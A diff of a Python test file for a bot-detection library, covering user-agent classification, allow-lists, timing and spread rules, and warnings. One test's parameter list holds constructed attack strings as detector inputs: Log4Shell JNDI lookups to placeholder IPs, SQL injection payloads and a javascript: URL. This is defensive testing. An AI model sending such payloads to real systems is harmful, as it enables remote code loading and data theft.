@@ -11,6 +11,7 @@ from __future__ import annotations
 import json
 import math
 import re
+import warnings
 from pathlib import Path
 
 import crawleruseragents
@@ -59,11 +60,31 @@ FLUID_MAC = (  # crawler-user-agents.json, example of pattern "Fluid"
     "(KHTML, like Gecko) Fluid/0.9.6 Safari/528.16"
 )
 GOOGLEBOT = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
+REAL_AGENTS = Path(__file__).resolve().parent / "data" / "real_user_agents.txt"
+
+
+def _real_agents() -> list[tuple[str, str]]:
+    """(category, agent) pairs of tests/data/real_user_agents.txt (sources in the file)."""
+    with REAL_AGENTS.open(encoding="utf-8") as handle:
+        rows = [line.rstrip("\n").split("\t", 1) for line in handle]
+    return [(row[0], row[1]) for row in rows if len(row) == 2 and not row[0].startswith("#")]
+
+
+def _real(category: str) -> str:
+    return next(agent for cat, agent in _real_agents() if cat == category)
+
 
 ALLOW_EXAMPLES = {
     "meta_in_app_browser": META_IAB_ANDROID,
     "android_build_AP3A.240617.008": INSTAGRAM_ANDROID_AP3A,
     "fluid_app": FLUID_MAC,
+    "sogou_browser": _real("human-sogou"),
+    "viber_in_app_browser": _real("human-viber"),
+    "slack_desktop": _real("human-slack"),
+    "blackboard_app": (  # CrawlerDetect devices.txt (crawlerdetect 0.4.2 sdist)
+        "Mozilla/5.0 (iPhone; CPU iPhone OS 11_3 like Mac OS X) AppleWebKit/605.1.15 "
+        "(KHTML, like Gecko) Mobile/15E216 Blackboard/3.6.1"
+    ),
 }
 
 
@@ -123,10 +144,120 @@ def test_allow_list_entry_saves_its_real_human_string(entry):
     assert _reason(agent) == ""
 
 
+def _real_params():
+    return pytest.mark.parametrize(
+        ("category", "agent"),
+        _real_agents(),
+        ids=[f"{c}-{i}" for i, (c, _) in enumerate(_real_agents())],
+    )
+
+
+@_real_params()
+def test_real_agents_of_every_category(category, agent):
+    expected = category.startswith("bot-")
+    # "human-case" agents hold a list pattern in another case ("Panasonic" / "Sonic"): a
+    # pipeline that lower-cases agents cannot tell them apart any more, so only as written
+    spellings = (agent,) if category == "human-case" else (agent, agent.lower(), agent.upper())
+    for spelling in spellings:
+        verdict = bots.ua_verdicts([spelling]).iloc[0]
+        assert verdict["is_bot"] == expected, (spelling, verdict["reason"])
+
+
+def test_real_agents_file_has_every_category_and_a_source():
+    text = REAL_AGENTS.read_text(encoding="utf-8")
+    categories = {c for c, _ in _real_agents()}
+    assert {
+        "human-android-model",
+        "human-uc",
+        "human-quark",
+        "human-qq",
+        "human-heytap",
+        "human-sogou",
+        "human-viber",
+        "human-slack",
+        "bot-tool",
+        "bot-google",
+        "bot-scanner",
+        "bot-garbage",
+    } <= categories
+    assert text.count("[CD") + text.count("[MT") + text.count("[GH") >= 10
+
+
+def test_android_model_slot_is_never_read_as_a_client_name():
+    agents = [a for c, a in _real_agents() if c == "human-android-model"]
+    assert len(agents) >= 5
+    v = bots.ua_verdicts(agents)
+    assert not v["is_bot"].any(), v[["user_agent", "reason"]]
+    # constructed: the same phone string with a crawler token after the slot stays a bot
+    assert _reason(agents[0] + " (compatible; Googlebot/2.1)") == "ua:list"
+    # what the masking sees
+    assert "B BOT" not in bots._mask_device_models(agents[:1])[0]
+
+
+@pytest.mark.parametrize(
+    ("agent", "token"),
+    [  # constructed injection strings (the payload shapes of Log4Shell and SQL injection)
+        ("${jndi:ldap://203.0.113.9:1389/a}", "garbage"),
+        ("Mozilla/5.0 ${jndi:dns://198.51.100.7/x}", "garbage"),
+        ("' OR '1'='1", "garbage"),
+        ("Mozilla/5.0' UNION SELECT password FROM users--", "garbage"),
+        ("1' AND SLEEP(5)#", "garbage"),
+        ("javascript:alert(1)", "garbage"),
+        ("...", "garbage"),
+        # product tokens of tools (constructed version numbers)
+        ("kube-probe/1.29", "tool"),
+        ("collectd/5.12.0", "tool"),
+        ("k6/0.49.0 (https://k6.io/)", "tool"),
+        ("Apache-JMeter/5.6.3", "tool"),
+        ("Prometheus/2.51.0", "tool"),
+        ("Blackbox-Exporter/0.24.0", "tool"),
+        ("Datadog Agent/7.52.0", "tool"),
+        ("Google-Read-Aloud", "google-service"),
+        (
+            "APIs-Google (+https://developers.google.com/webmasters/APIs-Google.html)",
+            "google-service",
+        ),
+        ("GoogleOther", "google-service"),
+        ("Google-Extended", "google-service"),
+        (
+            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
+            "scanner",
+        ),
+    ],
+)
+def test_new_fallback_tokens(agent, token):
+    assert _reason(agent) in (f"ua:fallback:{token}", "ua:list")
+    assert bots.ua_verdicts([agent.lower()]).iloc[0]["is_bot"]
+
+
+def test_a_lower_cased_pipeline_keeps_recall_and_precision():
+    crawlers = _crawler_instances()
+    mixed = bots.ua_verdicts(crawlers)["is_bot"].mean()
+    lower = bots.ua_verdicts([c.lower() for c in crawlers])["is_bot"].mean()
+    assert lower >= mixed - 0.001  # was 12.6 points lower before the list went case-blind
+    browsers = _browser_strings()
+    assert bots.ua_verdicts([b.lower() for b in browsers])["is_bot"].mean() < 0.005
+
+
+def test_shape_rule_is_opt_in_and_catches_what_no_token_names():
+    odd = "WeLikeLinks - WeAreNotEvil"  # CrawlerDetect crawlers.txt: no bot word at all
+    assert _reason(odd) == ""
+    labelled = bots.label(_agents(odd, CHROME_WIN), UA_ONLY, shape=True)
+    assert labelled["bot_reason"].tolist() == ["ua:shape", ""]
+    v = bots.ua_verdicts([odd, CHROME_WIN], shape=True)
+    assert v.set_index("user_agent").loc[odd, "reason"] == "ua:shape"
+    # its price: real browsers not shaped like one (here an Amiga browser, fake_useragent-free)
+    assert bots.ua_verdicts(["IBrowse/2.55 (AmigaOS 3.2)"], shape=True)["is_bot"].all()
+
+
 def test_allow_list_excuses_only_its_pattern_in_a_browser_shape():
     # constructed: the in-app string with a crawler token added, and a bot named Fluid
     assert _reason(META_IAB_ANDROID + " Googlebot/2.1") == "ua:list"
     assert _reason("FluidFetcher/1.0") == "ua:list"
+    # Sogou's, Viber's and Slack's fetchers stay bots [CD crawlers.txt / constructed]
+    assert _reason("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)")
+    assert _reason("Viber Url Downloader") == "ua:list"
+    assert _reason("Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)") == "ua:list"
 
 
 def test_meta_in_app_browsers_on_ios_are_not_flagged_at_all():
@@ -230,7 +361,7 @@ def test_quality_false_positives_on_real_browsers():
     fp_rate = v["is_bot"].mean()
     assert len(v) >= 800
     assert fp_rate < 0.005, v.loc[v["is_bot"], ["user_agent", "reason"]]
-    # without the allow-list these three would be flagged: the list alone is not enough
+    # without the allow-list these would be flagged: the list alone is not enough
     assert (v["allowed_by"] != "").sum() == len(ALLOW_EXAMPLES)
 
 
@@ -298,15 +429,71 @@ def _timer(gaps, *, visitor="v-mon", ip=None, page="/"):
 
 def test_schedule_fires_on_a_timer_and_boundary_tolerance():
     assert bots.label(_timer([300] * 5))["bot_reason"].eq("behaviour:schedule").all()
-    # median gap 100 s: gaps 95/105 are exactly 5% off the beat and fire; 94/106 do not
-    assert bots.label(_timer([95, 105] * 3))["is_bot"].all()
-    assert not bots.label(_timer([94, 106] * 3))["is_bot"].any()
-    assert bots.label(_timer([94, 106] * 3), BotRules(schedule_tolerance=0.06))["is_bot"].all()
+    # median gap 300 s: gaps 240/360 are exactly 60 s (the absolute tolerance) off the beat
+    # and fire; 239/361 do not
+    assert bots.label(_timer([240, 360] * 3))["is_bot"].all()
+    assert not bots.label(_timer([239, 361] * 3))["is_bot"].any()
+    rules = BotRules(schedule_tolerance_seconds=61)
+    assert bots.label(_timer([239, 361] * 3), rules)["is_bot"].all()
+    # median gap 100 s: the tolerance is capped at 25% of it (25 s): 75/125 fire, 74/126 not
+    assert bots.label(_timer([75, 125] * 3))["is_bot"].all()
+    assert not bots.label(_timer([74, 126] * 3))["is_bot"].any()
+    assert bots.label(_timer([74, 126] * 3), BotRules(schedule_tolerance=0.26))["is_bot"].all()
     # same IP, a fresh cookie each time: still a timer
     assert bots.label(_timer([60] * 8, visitor=None, ip="198.51.100.7"))["is_bot"].all()
     # ... unless the IP key is not used
     rules = BotRules(schedule_keys=("visitor_id",))
     assert not bots.label(_timer([60] * 8, visitor=None, ip="198.51.100.7"), rules)["is_bot"].any()
+
+
+def _jittered(period, jitter, n, *, seed=0, rotate_ips=False, agent=None):
+    rng = np.random.default_rng(seed)
+    seconds = np.arange(n) * period + rng.uniform(-jitter, jitter, n)
+    frame = _visits(
+        started_at=pd.Timestamp("2025-03-03", tz="UTC") + pd.to_timedelta(seconds, unit="s"),
+        visitor_id=[f"x{i}" for i in range(n)],  # monitors keep no cookie
+        # a pool of probe addresses picked at random: no address keeps the beat
+        ip=[f"203.0.113.{rng.integers(1, 250) if rotate_ips else 9}" for _ in range(n)],
+        landing_page=["/health"] * n,
+    )
+    if agent is not None:
+        frame["user_agent"] = agent
+    return frame
+
+
+def test_schedule_catches_a_jittery_five_minute_monitor():
+    # every 5 minutes, each start 20 s early or late: gaps from 260 to 340 s
+    frame = _jittered(300, 20, 40)
+    assert bots.label(frame)["bot_reasons"].str.contains("behaviour:schedule").mean() >= 0.9
+    # the same monitor judged with the old relative tolerance (5% of 300 s = 15 s) is missed
+    old = BotRules(schedule_tolerance_seconds=3600, schedule_tolerance=0.05)
+    assert bots.label(frame, old)["bot_reasons"].str.contains("behaviour:schedule").mean() < 0.5
+
+
+def test_schedule_catches_monitors_that_rotate_probe_addresses():
+    agent = "Mozilla/5.0 (compatible; Sentinel/2.0)"  # constructed, no bot word
+    frame = _jittered(300, 20, 40, rotate_ips=True, agent=agent)
+    labelled = bots.label(frame)
+    assert labelled["bot_reasons"].str.contains("behaviour:schedule").mean() >= 0.9
+    # only the agent ties the probes together
+    rules = BotRules(schedule_keys=("visitor_id", "ip"))
+    assert not bots.label(frame, rules)["bot_reasons"].str.contains("schedule").any()
+
+
+def test_schedule_spares_a_person_with_a_weekday_habit():
+    # every weekday at 09:00 +- 30 min for two weeks, same visitor, IP and page
+    rng = np.random.default_rng(1)
+    days = pd.bdate_range("2025-03-03", periods=10, tz="UTC")
+    times = days + pd.Timedelta(hours=9) + pd.to_timedelta(rng.uniform(-1800, 1800, 10), unit="s")
+    frame = _visits(
+        started_at=times,
+        visitor_id=["v-habit"] * 10,
+        ip=["192.0.2.44"] * 10,
+        landing_page=["/blog"] * 10,
+    )
+    assert not bots.label(frame)["is_bot"].any()  # 10 of 10 were flagged before
+    old = BotRules(schedule_tolerance_seconds=86400, schedule_tolerance=0.05)
+    assert bots.label(frame, old)["is_bot"].sum() >= 5
 
 
 def test_schedule_min_sessions_boundary():
@@ -373,17 +560,21 @@ def _schedule_by_hand(frame: pd.DataFrame, rules: BotRules) -> np.ndarray:
     flagged = np.zeros(len(frame), dtype=bool)
     start = frame["started_at"]
     for key in rules.schedule_keys:
+        if key not in frame.columns:
+            continue
         usable = frame[key].notna() & frame["landing_page"].notna() & start.notna()
         for _, group in frame[usable].groupby([key, "landing_page"]):
             if len(group) < rules.schedule_min_sessions:
                 continue
             positions = np.flatnonzero(frame.index.isin(group.index))
-            times = start.iloc[positions].astype("int64").to_numpy() / 1e9
+            epoch = pd.Timestamp("1970-01-01", tz="UTC")
+            times = (start.iloc[positions] - epoch).dt.total_seconds().to_numpy()
             positions = positions[np.argsort(times, kind="stable")]
             times = np.sort(times)
             gaps = np.diff(times)
             beat = np.median(gaps)
-            on = (beat > 0) & (np.abs(gaps - beat) <= rules.schedule_tolerance * beat)
+            tolerance = min(rules.schedule_tolerance_seconds, rules.schedule_tolerance * beat)
+            on = (beat > 0) & (np.abs(gaps - beat) <= tolerance)
             if on.sum() < rules.schedule_min_on_beat * len(gaps) - 1e-9:
                 continue
             hit = np.zeros(len(times), dtype=bool)
@@ -472,7 +663,22 @@ def test_precedence_and_all_reasons():
 
 def test_rules_can_be_switched_off_and_validated():
     assert BotRules.ua_only().enabled == ()
-    assert BotRules().enabled == ("too_fast", "pages_per_minute", "schedule", "fast_form")
+    assert BotRules().enabled == (
+        "robots_txt",
+        "too_fast",
+        "pages_per_minute",
+        "schedule",
+        "fast_form",
+        "spread",
+    )
+    for bad in (-1, "60s"):
+        with pytest.raises(ValueError, match="schedule_tolerance_seconds"):
+            BotRules(schedule_tolerance_seconds=bad)
+    for bad in (1, 2.5):
+        with pytest.raises(ValueError, match="spread_min_ips"):
+            BotRules(spread_min_ips=bad)
+    with pytest.raises(ValueError, match="spread_window_minutes"):
+        BotRules(spread_window_minutes=0)
     with pytest.raises(ValueError, match="too_fast_seconds"):
         BotRules(too_fast_seconds=-1)
     with pytest.raises(ValueError, match="schedule_min_sessions"):
@@ -563,6 +769,7 @@ def test_empty_frame_is_fine():
 POOL = [GOOGLEBOT, CHROME_WIN, FACEBOOK_IOS, META_IAB_ANDROID, "curl/8.5.0", "", None, "-"]
 
 
+@pytest.mark.filterwarnings("ignore:label\\(\\):UserWarning")
 @settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
 @given(
     agents=st.lists(st.sampled_from(POOL), min_size=0, max_size=25),
@@ -690,11 +897,15 @@ def test_missing_behaviour_columns_name_the_rule_and_the_switch():
     rules = BotRules(too_fast_seconds=None, max_pages_per_minute=None, fast_form_seconds=None)
     with pytest.raises(KeyError, match=r"rule 'schedule' needs column\(s\) 'started_at'"):
         bots.label(frame, rules)
-    no_keys = _visits(duration_s=[1.0]).drop(columns=["visitor_id", "ip"])
-    with pytest.raises(KeyError, match="one of the columns 'visitor_id', 'ip'"):
-        bots.label(no_keys)
-    with pytest.raises(KeyError, match="fast_form_seconds=None"):
-        bots.label(_visits(duration_s=[1.0]).drop(columns="form_seconds"))
+    # optional columns: the rules that need them are skipped, with one warning naming them
+    no_keys = _visits(duration_s=[1.0]).drop(columns=["visitor_id", "ip", "form_seconds"])
+    with pytest.warns(UserWarning) as record:
+        out = bots.label(no_keys, BotRules(schedule_keys=("visitor_id", "ip")))
+    assert len(record) == 1
+    message = str(record[0].message)
+    assert "rule 'schedule' skipped" in message and "'visitor_id', 'ip'" in message
+    assert "rule 'fast_form' skipped" in message and "spread" not in message  # no ip: silent
+    assert out["bot_reason"].tolist() == ["behaviour:too_fast"]
 
 
 def test_bad_values_and_types():
@@ -728,3 +939,111 @@ def test_kit_data_against_the_answer_key():
     result = bots.evaluate(bots.label(sessions), key)
     # 1.67.0 + default rules on the seeded kit data: precision 99.4%, recall 99.9%
     assert result.precision >= 0.97 and result.recall >= 0.95, result
+
+
+# --- robots.txt, spread, missing agents, lost reasons, missing truth ----------------------
+
+
+def test_robots_txt_rule_flags_sessions_that_asked_for_it():
+    frame = _visits(duration_s=[60.0] * 3, robots_txt=[True, False, None])
+    frame["robots_txt"] = frame["robots_txt"].astype("boolean")
+    out = bots.label(frame)
+    assert out["bot_reason"].tolist() == ["behaviour:robots_txt", "", ""]
+    assert not bots.label(frame, BotRules(robots_txt=False))["is_bot"].any()
+    # Python bools in an object column are fine; absent column: rule silently off
+    frame["robots_txt"] = pd.Series([True, False, None], dtype=object)
+    assert bots.label(frame)["is_bot"].tolist() == [True, False, False]
+    assert not bots.label(frame.drop(columns="robots_txt"))["is_bot"].any()
+
+
+@pytest.mark.parametrize("text", [["True", "False", "False"], ["yes", "no", "no"], [1, 0, 0]])
+def test_robots_txt_text_or_numbers_are_refused_with_the_fix(text):
+    frame = _visits(duration_s=[60.0] * 3, robots_txt=text)
+    with pytest.raises(TypeError) as err:
+        bots.label(frame)
+    assert "column 'robots_txt' must hold True/False" in str(err.value)
+    assert ".map(" in str(err.value)
+
+
+def _burst(
+    n_ips, minutes, agent="Mozilla/5.0 (Windows NT 6.1; rv:45.0) Gecko/20100101 Firefox/45.0"
+):
+    times = pd.Timestamp("2025-03-03 10:00", tz="UTC") + pd.to_timedelta(
+        np.linspace(0, minutes * 60, n_ips), unit="s"
+    )
+    return _visits(
+        started_at=times,
+        ip=[f"198.51.100.{i}" for i in range(n_ips)],
+        visitor_id=[f"x{i}" for i in range(n_ips)],
+        landing_page=[f"/p{i}" for i in range(n_ips)],
+        user_agent=[agent] * n_ips,
+        duration_s=[30.0] * n_ips,
+    )
+
+
+def test_spread_rule_one_agent_from_many_addresses_within_minutes():
+    # constructed: a crawler posing as an old Firefox from 44 addresses in 8 minutes
+    out = bots.label(_burst(44, 8))
+    assert out["bot_reason"].eq("behaviour:spread").all()
+    # boundary: 20 addresses fire, 19 do not; the same 44 spread over six hours do not
+    assert bots.label(_burst(20, 4))["is_bot"].all()
+    assert not bots.label(_burst(19, 4))["is_bot"].any()
+    assert not bots.label(_burst(44, 360))["is_bot"].any()
+    assert not bots.label(_burst(44, 8), BotRules(spread_min_ips=None))["is_bot"].any()
+
+
+def test_no_user_agents_at_all_is_judged_by_behaviour_with_one_warning():
+    frame = _visits(duration_s=[60.0, 0.5], pageviews=[2, 5], user_agent=["", None])
+    with pytest.warns(UserWarning, match="judged by behaviour only") as record:
+        out = bots.label(frame)
+    assert len(record) == 1
+    assert out["bot_reason"].tolist() == ["", "behaviour:too_fast"]  # not 100% bots
+    # said explicitly: no warning, same verdicts; the column may be absent
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        explicit = bots.label(frame.drop(columns="user_agent"), user_agents=False)
+    assert explicit["bot_reason"].tolist() == ["", "behaviour:too_fast"]
+    with pytest.raises(TypeError, match="user_agents must be True, False or None"):
+        bots.label(frame, user_agents="no")
+
+
+def test_many_missing_agents_warn_once_in_label_and_report():
+    frame = _agents(None, "", "-", CHROME_WIN)
+    with pytest.warns(UserWarning) as record:
+        labelled = bots.label(frame, UA_ONLY)
+    assert len(record) == 1 and "3 of 4 sessions (75%) have no user agent" in str(record[0].message)
+    assert labelled["bot_reason"].tolist() == ["ua:missing"] * 3 + [""]
+    with pytest.warns(UserWarning, match=r"report\(\): 3 of 4 sessions"):
+        bots.report(labelled)
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        bots.label(_agents(None, CHROME_WIN, CHROME_WIN), UA_ONLY)  # a third: no warning
+
+
+def test_report_reconciles_when_reasons_are_lost():
+    labelled = bots.label(_agents(*([GOOGLEBOT] * 30 + [CHROME_WIN] * 70)), UA_ONLY)
+    labelled["bot_reason"] = labelled["bot_reason"].astype(object)
+    labelled.loc[labelled.index[:12], "bot_reason"] = None  # lost in a merge
+    labelled.loc[labelled.index[12:20], "bot_reason"] = ""
+    table = bots.report(labelled)
+    assert table.loc["total", "sessions"] == 100
+    assert table.drop(index="total")["sessions"].sum() == 100
+    assert table.loc["unknown", "sessions"] == 20
+    assert table.loc["human", "sessions"] == 70
+
+
+def test_evaluate_refuses_a_missing_truth_and_text_booleans():
+    labelled = pd.DataFrame(
+        {"session_id": ["a", "b", "c"], "is_bot": [True, False, False], "bot_reason": ["x", "", ""]}
+    )
+    key = pd.DataFrame({"session_id": ["a", "b", "c"], "segment": ["bot", None, "loyal"]})
+    with pytest.raises(ValueError, match="without a segment.*not 'human'"):
+        bots.evaluate(labelled, key)
+    as_text = pd.Series(["True", "False", "False"], index=["a", "b", "c"])
+    with pytest.raises(TypeError, match=r"'True'/'False' is not read as a boolean"):
+        bots.evaluate(labelled, as_text)
+    as_objects = pd.Series([True, False, False], index=["a", "b", "c"], dtype=object)
+    assert bots.evaluate(labelled, as_objects).tp == 1
+    text_flags = labelled.assign(is_bot=["True", "False", "False"])
+    with pytest.raises(TypeError, match="'True'/'False'"):
+        bots.report(text_flags)
